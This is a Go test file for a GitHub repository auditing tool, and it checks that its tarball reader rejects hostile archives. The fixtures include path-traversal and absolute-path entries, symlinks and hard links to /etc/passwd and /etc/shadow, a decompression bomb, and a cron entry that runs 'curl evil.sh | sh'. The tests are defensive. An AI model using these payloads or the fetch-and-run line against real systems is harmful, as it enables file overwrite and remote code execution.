package github

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/pathway-dev/pathway/internal/githubtest"
	"github.com/pathway-dev/pathway/internal/snapshot"
)

func TestHostileArchive(t *testing.T) {
	f := fake(t)
	files := expressFiles()
	// A 2 MiB seed file: in the tree, too big to keep.
	files["db/seed.sql"] = strings.Repeat("INSERT INTO products (name, price) VALUES ('widget', 9.99);\n", 2<<20/60+1)
	r := f.AddRepo(githubtest.Repo{Owner: "ana-lima", Name: "hostile", Files: files, Commits: githubtest.History(ana, 4, now, time.Hour)})
	top := "ana-lima-hostile-" + r.HeadSHA()[:7]
	r.ArchiveExtra = []githubtest.ArchiveEntry{
		{Name: "../../etc/cron.d/evil", Body: []byte("* * * * * root curl evil.sh | sh\n")},
		{Name: top + "/../outside.txt", Body: []byte("escaped\n")},
		{Name: top + "/src/../../../escape.ts", Body: []byte("escaped\n")},
		{Name: "/etc/passwd", Body: []byte("root:x:0:0\n")},
		{Name: top + "/src/passwd", Type: tar.TypeSymlink, Linkname: "/etc/passwd"},
		{Name: top + "/src/hard", Type: tar.TypeLink, Linkname: "/etc/shadow"},
		{Name: top + "/src/tty", Type: tar.TypeChar},
		{Name: top + "/not-in-tree.env", Body: []byte("DATABASE_URL=postgres://admin:hunter2@db/shop\n")},
		{Name: "other-top/README.md", Body: []byte("a second top folder\n")},
		{Name: top + "/README.md", Body: []byte("# replaced by a later entry\n")},
	}
	snap := audit(t, newSource(t, f, ""), "ana-lima", snapshot.Options{})
	h := repoNamed(t, snap, "hostile")
	if !h.ContentsKnown || len(h.Warnings) != 0 {
		t.Fatalf("contents known %v, warnings %v", h.ContentsKnown, h.Warnings)
	}
	for p := range h.Contents {
		if strings.Contains(p, "..") || strings.HasPrefix(p, "/") || !h.Has(p) {
			t.Errorf("kept content for %q", p)
		}
	}
	if len(h.Files) != len(files) {
		t.Errorf("files = %d, want the tree's %d", len(h.Files), len(files))
	}
	for _, p := range []string{"not-in-tree.env", "src/passwd", "src/hard", "src/tty", "outside.txt", "escape.ts"} {
		if h.Has(p) {
			t.Errorf("%s added to the file list", p)
		}
	}
	if f, ok := h.File("db/seed.sql"); !ok || f.Size <= 1<<20 {
		t.Errorf("seed.sql in tree = %+v, %v", f, ok)
	}
	if _, err := h.Read("db/seed.sql"); err != snapshot.ErrNotFetched {
		t.Errorf("over-cap file read: %v, want ErrNotFetched", err)
	}
	if b, err := h.Read("README.md"); err != nil || string(b) != files["README.md"] {
		t.Errorf("README = %q, %v; a later entry must not replace it", b, err)
	}
}

func TestArchiveBombStopsReading(t *testing.T) {
	f := fake(t)
	r := f.AddRepo(githubtest.Repo{Owner: "ana-lima", Name: "bomb", Files: expressFiles(), Commits: githubtest.History(ana, 2, now, time.Hour)})
	top := "ana-lima-bomb-" + r.HeadSHA()[:7]
	// 64 MiB of zeros compress to about 64 KiB.
	r.ArchiveExtra = []githubtest.ArchiveEntry{{Name: top + "/zeros.txt", Size: 64 << 20}, {Name: top + "/after.txt", Body: []byte("never read\n")}}
	s := newSource(t, f, "")
	s.lim.decompressed = 4 << 20
	snap := audit(t, s, "ana-lima", snapshot.Options{})
	b := repoNamed(t, snap, "bomb")
	if len(b.Warnings) != 1 || !strings.Contains(b.Warnings[0], "bomb") {
		t.Fatalf("warnings = %v", b.Warnings)
	}
	// What came before the bomb is kept.
	if !b.ContentsKnown || len(b.Contents) != len(expressFiles()) {
		t.Errorf("kept %d files, want %d", len(b.Contents), len(expressFiles()))
	}
}

// tarball builds a GitHub-like archive of n source files.
func tarball(t testing.TB, n int, extra func(*tar.Writer)) []byte {
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	must := func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	}
	must(tw.WriteHeader(&tar.Header{Typeflag: tar.TypeXGlobalHeader, Name: "pax_global_header", PAXRecords: map[string]string{"comment": "0123456789abcdef"}, Format: tar.FormatPAX}))
	for i := range n {
		body := fmt.Sprintf("package handlers\n\n// Handler%d serves /api/items/%d.\nfunc Handler%d() string { return %q }\n", i, i, i, strings.Repeat("x", i%200))
		must(tw.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: fmt.Sprintf("ana-api-0123456/pkg/h%05d.go", i), Size: int64(len(body)), Mode: 0o644}))
		_, err := tw.Write([]byte(body))
		must(err)
	}
	if extra != nil {
		extra(tw)
	}
	must(tw.Close())
	must(gz.Close())
	return buf.Bytes()
}

func TestReadArchiveCaps(t *testing.T) {
	all := func(string) bool { return true }
	t.Run("entries", func(t *testing.T) {
		lim := defaultLimits
		lim.entries = 10
		a, err := readArchive(bytes.NewReader(tarball(t, 50, nil)), all, lim)
		if err != nil || a.complete || len(a.contents) != 9 || len(a.warnings) != 1 || !strings.Contains(a.warnings[0], "entries") {
			t.Errorf("err %v complete %v kept %d warnings %v", err, a.complete, len(a.contents), a.warnings)
		}
	})
	t.Run("kept", func(t *testing.T) {
		lim := defaultLimits
		lim.kept = 2000
		a, err := readArchive(bytes.NewReader(tarball(t, 50, nil)), all, lim)
		var kept int
		for _, b := range a.contents {
			kept += len(b)
		}
		if err != nil || !a.complete || kept > 2000 || kept == 0 || len(a.warnings) != 1 || !strings.Contains(a.warnings[0], "capped") {
			t.Errorf("err %v kept %d bytes warnings %v", err, kept, a.warnings)
		}
	})
	t.Run("binary", func(t *testing.T) {
		data := tarball(t, 1, func(tw *tar.Writer) {
			body := append([]byte("GIF89a"), 0, 1, 2)
			_ = tw.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: "ana-api-0123456/logo.gif", Size: int64(len(body)), Mode: 0o644})
			_, _ = tw.Write(body)
		})
		a, err := readArchive(bytes.NewReader(data), all, defaultLimits)
		if _, ok := a.contents["logo.gif"]; err != nil || ok || len(a.contents) != 1 {
			t.Errorf("binary kept: err %v contents %d", err, len(a.contents))
		}
	})
	t.Run("truncated stream", func(t *testing.T) {
		data := tarball(t, 200, nil)
		a, err := readArchive(bytes.NewReader(data[:len(data)/2]), all, defaultLimits)
		if err == nil || a.complete || len(a.contents) == 0 {
			t.Errorf("err %v complete %v kept %d", err, a.complete, len(a.contents))
		}
	})
}

func TestSafePath(t *testing.T) {
	for p, want := range map[string]bool{
		"README.md": true, "src/app.py": true, ".github/workflows/ci.yml": true, "a..b/c": true,
		"": false, "/etc/passwd": false, "../x": false, "a/../../x": false, "a/./b": false, "a//b": false, "dir/": false, "..": false,
	} {
		if got := safePath(p); got != want {
			t.Errorf("safePath(%q) = %v, want %v", p, got, want)
		}
	}
}

func BenchmarkReadArchive(b *testing.B) {
	data := tarball(b, 5000, nil)
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := readArchive(bytes.NewReader(data), func(string) bool { return true }, defaultLimits); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkSnapshot audits a user with 20 repositories on the fake GitHub.
func BenchmarkSnapshot(b *testing.B) {
	f := githubtest.Start()
	defer f.Close()
	f.AddToken("ghp_bench")
	f.SetLimit(60, 1<<30)
	f.AddUser(githubtest.User{Login: "ana-lima"})
	for i := range 20 {
		f.AddRepo(plainRepo("ana-lima", i, now.Add(-time.Duration(i)*time.Hour)))
	}
	s, err := New(Config{APIURL: f.URL(), Token: "ghp_bench"})
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	for b.Loop() {
		if _, err := s.Snapshot(context.Background(), "ana-lima", snapshot.Options{}); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(s.Requests())/float64(b.N)/20, "requests/repo")
}

// gitTarball writes entries the way git archive does, under top/.
func gitTarball(t *testing.T, entries []*tar.Header, bodies map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	tw.WriteHeader(&tar.Header{Typeflag: tar.TypeXGlobalHeader, Name: "pax_global_header", PAXRecords: map[string]string{"comment": "4f9c1d2e3b4a5968778695a4b3c2d1e0f9e8d7c6"}, Format: tar.FormatPAX})
	for _, h := range entries {
		h.Name = "ana-tools-4f9c1d2/" + h.Name
		body := bodies[strings.TrimPrefix(h.Name, "ana-tools-4f9c1d2/")]
		if h.Typeflag == tar.TypeReg {
			h.Size = int64(len(body))
		}
		h.Format = tar.FormatPAX
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if h.Typeflag == tar.TypeReg {
			tw.Write([]byte(body))
		}
	}
	tw.Close()
	gz.Close()
	return buf.Bytes()
}

// The tree id is git's: checked against `git write-tree` on the same files.
func TestArchiveTreeIDIsGits(t *testing.T) {
	bodies := map[string]string{"a.txt": "hi\n", "d/b.txt": "yo\n", "bin/run.sh": "#!/bin/sh\necho run\n", "empty": "", "d.x/f": "dot\n"}
	entries := func() []*tar.Header {
		return []*tar.Header{
			{Typeflag: tar.TypeDir, Name: "", Mode: 0o775},
			{Typeflag: tar.TypeReg, Name: "a.txt", Mode: 0o664},
			{Typeflag: tar.TypeDir, Name: "bin/", Mode: 0o775},
			{Typeflag: tar.TypeReg, Name: "bin/run.sh", Mode: 0o775},
			{Typeflag: tar.TypeDir, Name: "d/", Mode: 0o775},
			{Typeflag: tar.TypeReg, Name: "d/b.txt", Mode: 0o664},
			{Typeflag: tar.TypeSymlink, Name: "d/link", Linkname: "../a.txt", Mode: 0o777},
			{Typeflag: tar.TypeDir, Name: "d.x/", Mode: 0o775},
			{Typeflag: tar.TypeReg, Name: "d.x/f", Mode: 0o664},
			{Typeflag: tar.TypeReg, Name: "empty", Mode: 0o664},
		}
	}
	all := func(string) bool { return true }
	a, err := readArchive(bytes.NewReader(gitTarball(t, entries(), bodies)), all, defaultLimits)
	if err != nil || a.treeSHA != "332b755944fcdb450bed6b30a115b3b765cd621d" || a.commit != "4f9c1d2e3b4a5968778695a4b3c2d1e0f9e8d7c6" {
		t.Fatalf("err %v tree %s commit %s", err, a.treeSHA, a.commit)
	}
	// Content kept or not, the id is the same: large files are hashed too.
	lim := defaultLimits
	lim.fileSize = 2
	if b, _ := readArchive(bytes.NewReader(gitTarball(t, entries(), bodies)), all, lim); b.treeSHA != a.treeSHA || len(b.contents) != 1 {
		t.Errorf("with a 2-byte file cap: tree %s, kept %d", b.treeSHA, len(b.contents))
	}
	for name, change := range map[string]func([]*tar.Header) []*tar.Header{
		"exec bit lost": func(h []*tar.Header) []*tar.Header { h[3].Mode = 0o664; return h },
		"file left out": func(h []*tar.Header) []*tar.Header { return append(h[:5], h[6:]...) },
		"submodule": func(h []*tar.Header) []*tar.Header {
			return append(h, &tar.Header{Typeflag: tar.TypeDir, Name: "vendor/lib/", Mode: 0o775})
		},
		"traversal": func(h []*tar.Header) []*tar.Header {
			return append(h, &tar.Header{Typeflag: tar.TypeReg, Name: "../x", Mode: 0o664})
		},
		"hard link": func(h []*tar.Header) []*tar.Header {
			return append(h, &tar.Header{Typeflag: tar.TypeLink, Name: "hl", Linkname: "a.txt"})
		},
		"repeated path": func(h []*tar.Header) []*tar.Header {
			return append(h, &tar.Header{Typeflag: tar.TypeReg, Name: "a.txt", Mode: 0o664})
		},
	} {
		b, err := readArchive(bytes.NewReader(gitTarball(t, change(entries()), bodies)), all, defaultLimits)
		if err != nil || b.treeSHA == a.treeSHA {
			t.Errorf("%s: tree %q still trusted (err %v)", name, b.treeSHA, err)
		}
		if name == "submodule" {
			if f := b.files[len(b.files)-1]; f.Path != "vendor/lib" || f.Kind != "submodule" {
				t.Errorf("empty folder listed as %+v", f)
			}
		}
	}
}

// A hostile archive is never trusted: the tree gives the file list, and
// nothing of it reaches the disk, cache folder included.
func TestHostileArchiveWithCache(t *testing.T) {
	f := fake(t)
	r := f.AddRepo(githubtest.Repo{Owner: "ana-lima", Name: "nest-api", Files: map[string]string{
		"package.json": `{"dependencies": {"@nestjs/core": "^10.3.0"}}`, "src/main.ts": "bootstrap();\n", "README.md": "# nest-api\n",
	}, Commits: githubtest.History(ana, 5, now, time.Hour)})
	top := "ana-lima-nest-api-" + r.HeadSHA()[:7]
	r.ArchiveExtra = []githubtest.ArchiveEntry{
		{Name: top + "/../../../../tmp/pathway-escape", Body: []byte("escaped\n")},
		{Name: "/tmp/pathway-absolute", Body: []byte("absolute\n")},
		{Name: top + "/src/evil", Type: tar.TypeSymlink, Linkname: "../../../../etc/shadow"},
	}
	root := t.TempDir()
	cache := filepath.Join(root, "cache")
	s := cachedSource(t, f, "", cache)
	snap := audit(t, s, "ana-lima", snapshot.Options{})
	got := repoNamed(t, snap, "nest-api")
	if f.Calls("/repos/ana-lima/nest-api/git/trees/main") != 1 {
		t.Error("a hostile archive was trusted as the file list")
	}
	if len(got.Files) != 3 || got.Has("src/evil") || len(got.Contents) != 3 {
		t.Errorf("files %v, contents %d", got.Files, len(got.Contents))
	}
	entries, _ := os.ReadDir(root)
	if len(entries) != 1 || entries[0].Name() != "cache" {
		t.Errorf("written next to the cache folder: %v", entries)
	}
	for _, p := range []string{"/tmp/pathway-escape", "/tmp/pathway-absolute"} {
		if _, err := os.Stat(p); err == nil {
			t.Errorf("%s was written", p)
		}
	}
}

func TestEntryCapFallsBackToTheTree(t *testing.T) {
	f := githubtest.New(t)
	f.AddUser(githubtest.User{Login: "ana-lima"})
	r := plainRepo("ana-lima", 1, now)
	for i := range 30 {
		r.Files[fmt.Sprintf("migrations/%04d_step.sql", i)] = fmt.Sprintf("ALTER TABLE orders ADD COLUMN c%d int;\n", i)
	}
	f.AddRepo(r)
	s := newSource(t, f, "")
	s.lim.entries = 10
	snap := audit(t, s, "ana-lima", snapshot.Options{})
	got := snap.Repos[0]
	if len(got.Files) != len(r.Files) || len(got.Warnings) != 1 || !strings.Contains(got.Warnings[0], "more than 10 entries") {
		t.Errorf("files %d of %d, warnings %v", len(got.Files), len(r.Files), got.Warnings)
	}
	if f.Calls("/repos/ana-lima/*/git/trees/main") != 1 {
		t.Error("a capped archive was trusted as the file list")
	}
}
